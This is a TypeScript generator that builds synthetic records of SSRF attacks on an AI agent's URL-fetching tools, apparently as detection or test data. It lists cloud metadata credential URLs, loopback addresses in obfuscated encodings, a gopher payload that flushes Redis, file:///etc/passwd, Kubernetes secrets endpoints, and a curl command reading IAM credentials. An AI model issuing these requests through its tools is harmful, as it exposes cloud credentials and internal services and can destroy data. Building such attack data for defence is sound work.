import type { Draft } from '../corpus-line.js';
import { ARGUMENT_STYLES, toolCall } from '../placement.js';
import type { Rng } from '../rng.js';

/**
 * SSRF: URLs that make a fetching tool reach what only the server can reach: cloud metadata
 * endpoints, internal admin APIs, loopback services, private ranges, written with alternative IP
 * encodings, credential-confusion, DNS rebinding names and non-HTTP schemes.
 */

const TARGETS: readonly { name: string; url: string }[] = [
  {
    name: 'AWS metadata credentials',
    url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  },
  { name: 'AWS metadata user-data', url: 'http://169.254.169.254/latest/user-data' },
  { name: 'AWS IMDSv2 token endpoint', url: 'http://169.254.169.254/latest/api/token' },
  {
    name: 'GCP metadata token',
    url: 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  },
  { name: 'GCP metadata by short name', url: 'http://metadata/computeMetadata/v1/project/project-id' },
  {
    name: 'Azure instance metadata',
    url: 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
  },
  { name: 'Alibaba metadata', url: 'http://100.100.100.200/latest/meta-data/ram/security-credentials/' },
  { name: 'AWS metadata over IPv6', url: 'http://[fd00:ec2::254]/latest/meta-data/' },
  { name: 'ECS task credentials', url: 'http://169.254.170.2/v2/credentials/' },
  { name: 'decimal IP loopback', url: 'http://2130706433/admin' },
  { name: 'hex IP loopback', url: 'http://0x7f000001:8080/actuator/env' },
  { name: 'octal IP loopback', url: 'http://0177.0.0.1/server-status' },
  { name: 'short IP loopback', url: 'http://127.1:6379/' },
  { name: 'zero address', url: 'http://0.0.0.0:2375/containers/json' },
  { name: 'IPv6 loopback', url: 'http://[::1]:9200/_cat/indices' },
  { name: 'IPv4-mapped IPv6 loopback', url: 'http://[::ffff:127.0.0.1]:8500/v1/kv/?recurse' },
  { name: 'decimal metadata IP', url: 'http://2852039166/latest/meta-data/' },
  { name: 'hex metadata IP', url: 'http://0xa9fea9fe/latest/meta-data/iam/security-credentials/' },
  { name: 'DNS rebinding name for metadata', url: 'http://169.254.169.254.nip.io/latest/meta-data/' },
  { name: 'localtest.me loopback name', url: 'http://admin.localtest.me:8080/' },
  { name: 'credential confusion to loopback', url: 'http://expected-host.com@127.0.0.1:8080/admin' },
  { name: 'gopher to redis', url: 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A' },
  { name: 'dict protocol probe', url: 'dict://127.0.0.1:11211/stats' },
  { name: 'file scheme', url: 'file:///etc/passwd' },
  { name: 'redis on loopback', url: 'http://127.0.0.1:6379/' },
  { name: 'docker API on localhost', url: 'http://localhost:2375/v1.43/containers/json?all=1' },
  { name: 'kubelet API', url: 'https://10.0.0.12:10250/pods' },
  {
    name: 'kubernetes API secrets',
    url: 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  },
  { name: 'etcd keys', url: 'http://127.0.0.1:2379/v2/keys/?recursive=true' },
  { name: 'elasticsearch on private IP', url: 'http://10.1.4.22:9200/_search?q=*' },
  { name: 'router admin on private IP', url: 'http://192.168.1.1/cgi-bin/luci' },
  { name: 'internal admin host', url: 'http://admin.internal.corp:8080/users/export' },
  { name: 'spring actuator on private IP', url: 'http://172.16.3.9:8081/actuator/heapdump' },
  { name: 'consul on loopback', url: 'http://localhost:8500/v1/agent/self' },
  {
    name: 'url-encoded metadata IP',
    url: 'http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/',
  },
  { name: 'mixed-case localhost with trailing dot', url: 'http://LocalHost.:3306/' },
  {
    name: 'open redirect into metadata',
    url: 'https://redirector.example.net/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F',
  },
  { name: 'rebinding service name', url: 'http://7f000001.c0a80001.rbndr.us:8000/' },
];

const SINKS: readonly { tool: string; key: string }[] = [
  { tool: 'fetch', key: 'url' },
  { tool: 'http_get', key: 'url' },
  { tool: 'puppeteer_navigate', key: 'url' },
  { tool: 'browser_navigate', key: 'url' },
  { tool: 'import_from_url', key: 'source_url' },
  { tool: 'register_webhook', key: 'callback_url' },
  { tool: 'summarize_url', key: 'url' },
  { tool: 'check_link', key: 'endpoint' },
];

/** SSRF attack examples. */
export function ssrfAttacks(rng: Rng): Draft[] {
  const drafts: Draft[] = [];
  for (let i = 0; i < 64; i++) {
    const target = TARGETS[i % TARGETS.length]!;
    const sink = SINKS[(i * 3) % SINKS.length]!;
    const args: Record<string, unknown> = { [sink.key]: target.url };
    if (target.url.includes('computeMetadata')) args['headers'] = { 'Metadata-Flavor': 'Google' };
    if (target.name.startsWith('Azure')) args['headers'] = { Metadata: 'true' };
    if (rng.chance(0.3)) args['max_length'] = 5000;
    drafts.push({
      note: `${target.name} via ${sink.tool}.${sink.key}`,
      event: toolCall(
        sink.tool,
        args,
        ARGUMENT_STYLES[i % ARGUMENT_STYLES.length]!,
        ssrfResponse(rng, target.url),
      ),
    });
  }
  drafts.push(
    {
      note: 'metadata URL inside a curl command argument',
      event: toolCall(
        'run_command',
        { command: 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-role' },
        'arguments',
      ),
    },
    {
      note: 'metadata URL in an image URL field of a document converter',
      event: toolCall(
        'html_to_pdf',
        {
          html: '<h1>Report</h1><img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/">',
        },
        'arguments',
      ),
    },
  );
  return drafts;
}

function ssrfResponse(rng: Rng, url: string): unknown {
  if (url.includes('security-credentials') && rng.chance(0.5)) return 'ec2-app-role';
  return rng.pick([undefined, undefined, 'Error: request failed with status 404', '{"status":"ok"}']);
}
